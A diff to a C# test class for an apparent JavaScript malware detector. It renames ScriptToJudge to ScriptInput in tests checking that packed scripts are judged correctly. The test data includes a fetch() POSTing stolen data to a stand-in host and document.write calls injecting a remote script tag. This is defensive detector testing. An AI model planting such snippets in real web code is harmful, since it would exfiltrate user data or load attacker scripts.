@@ -60,7 +60,7 @@ public sealed class HidingAloneTests
     [Theory]
     [MemberData(nameof(Packed))]
     public void Honest_code_is_at_most_suspicious_for_being_packed(string script, string packer) =>
-        Assert.NotEqual(VerdictKind.Malicious, Judge.Judge(new ScriptToJudge { Source = PackerNames[packer](Honest[script]) }).Verdict);
+        Assert.NotEqual(VerdictKind.Malicious, Judge.Judge(new ScriptInput { Source = PackerNames[packer](Honest[script]) }).Verdict);
 
     [Theory]
     [MemberData(nameof(Packers))]
@@ -72,7 +72,7 @@ public sealed class HidingAloneTests
                 fetch('https://metrics-collect.example/a', { method: 'POST', body: JSON.stringify(stolen) });
             });
             """;
-        Assert.Equal(VerdictKind.Malicious, Judge.Judge(new ScriptToJudge { Source = PackerNames[packer](source) }).Verdict);
+        Assert.Equal(VerdictKind.Malicious, Judge.Judge(new ScriptInput { Source = PackerNames[packer](source) }).Verdict);
     }
 
     [Theory]
@@ -80,7 +80,7 @@ public sealed class HidingAloneTests
     public void A_tag_that_is_hidden_with_all_of_its_address_is_malicious(string packer) =>
         Assert.Equal(VerdictKind.Malicious,
             Judge.Judge(
-            new ScriptToJudge { Source = PackerNames[packer]("""document.write('<script src="//cdn-metrics-files.example/j.js"><\/script>')""") })
+            new ScriptInput { Source = PackerNames[packer]("""document.write('<script src="//cdn-metrics-files.example/j.js"><\/script>')""") })
             .Verdict);
 
     [Theory]
@@ -88,7 +88,7 @@ public sealed class HidingAloneTests
     public void A_query_that_the_code_fixes_is_no_way_out(string packer) =>
         Assert.Equal(VerdictKind.Malicious,
             Judge.Judge(
-            new ScriptToJudge { Source = PackerNames[packer]("""document.write('<script src="//cdn-metrics-files.example/j.js?v=7"><\/script>')""") })
+            new ScriptInput { Source = PackerNames[packer]("""document.write('<script src="//cdn-metrics-files.example/j.js?v=7"><\/script>')""") })
             .Verdict);
 
     [Fact]
@@ -99,6 +99,6 @@ public sealed class HidingAloneTests
             later(function () { document.body.className = 'ready'; }, 10);
             later(decodeURIComponent(document.getElementById('template').textContent), 10);
             """;
-        Assert.DoesNotContain(Judge.Judge(new ScriptToJudge { Source = source }).Findings, finding => finding.Rule == "code-from-page-text");
+        Assert.DoesNotContain(Judge.Judge(new ScriptInput { Source = source }).Findings, finding => finding.Rule == "code-from-page-text");
     }
 }
